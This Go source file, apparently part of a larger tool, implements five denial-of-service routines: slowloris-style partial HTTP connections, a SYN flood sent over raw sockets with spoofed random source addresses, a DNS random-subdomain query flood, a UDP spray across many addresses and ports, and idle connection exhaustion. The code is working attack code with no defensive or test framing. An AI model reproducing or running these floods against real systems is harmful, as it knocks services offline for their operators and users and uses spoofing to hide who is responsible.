package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// floodConnects holds as many connections as it gets, of N that it tries, and says a
// part of a request on each.
func floodConnects(args []string) (string, error) {
	n, _ := strconv.Atoi(args[1])
	made := 0
	for range n {
		c, err := net.DialTimeout("tcp", args[0], patience)
		if err == nil {
			made++
			defer c.Close()
			_, _ = c.Write([]byte("GET / HTTP/1.1\r\nX: "))
		}
	}
	fmt.Printf("%d made\n", made)
	time.Sleep(4 * time.Second)
	return strconv.Itoa(made), nil
}

// floodSYN sends first packets by hand, from as many ports and addresses.
func floodSYN(args []string) (string, error) {
	n, _ := strconv.Atoi(args[1])
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	sent := 0
	for range n {
		b, to := packet4([]string{"syn", fmt.Sprintf("192.%d.%d.%d", 1+rand.N(200), rand.N(256), rand.N(256)), args[0]})
		binary.BigEndian.PutUint16(b[20:], uint16(rand.N(60000)+1))
		b[36], b[37] = 0, 0
		pseudo := append(append([]byte(nil), b[12:20]...), 0, 6, 0, 20)
		binary.BigEndian.PutUint16(b[36:], checksum(pseudo, b[20:]))
		if unix.Sendto(fd, b, unix.MSG_DONTWAIT, &unix.SockaddrInet4{Addr: to.As4()}) == nil {
			sent++
		}
	}
	return strconv.Itoa(sent), nil
}

// floodQueries asks for names that are made up.
func floodQueries(args []string) (string, error) {
	n, _ := strconv.Atoi(args[1])
	c, err := net.Dial("udp", args[0])
	if err != nil {
		return "", err
	}
	defer c.Close()
	for i := range n {
		b := []byte{byte(i >> 8), byte(i), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
		label := fmt.Sprintf("x%d", i)
		b = append(append(b, byte(len(label))), label...)
		b = append(append(b, byte(len(args[2]))), args[2]...)
		b = append(append(b, 7), "example"...)
		_, _ = c.Write(append(b, 0, 0, 1, 0, 1))
	}
	return strconv.Itoa(n), nil
}

// floodDatagrams sends one to each of many ports and addresses.
func floodDatagrams(args []string) (string, error) {
	n, _ := strconv.Atoi(args[0])
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	for i := range n {
		_ = unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Addr: [4]byte{93, 184, byte(i >> 8), byte(i)}, Port: 1000 + i%50000})
	}
	return args[0], nil
}

// idle connects and says nothing.
func idle(args []string) (string, error) {
	n, _ := strconv.Atoi(args[1])
	for range n {
		if c, err := net.DialTimeout("tcp", args[0], patience); err == nil {
			defer c.Close()
		}
	}
	time.Sleep(4 * time.Second)
	return strconv.Itoa(n), nil
}
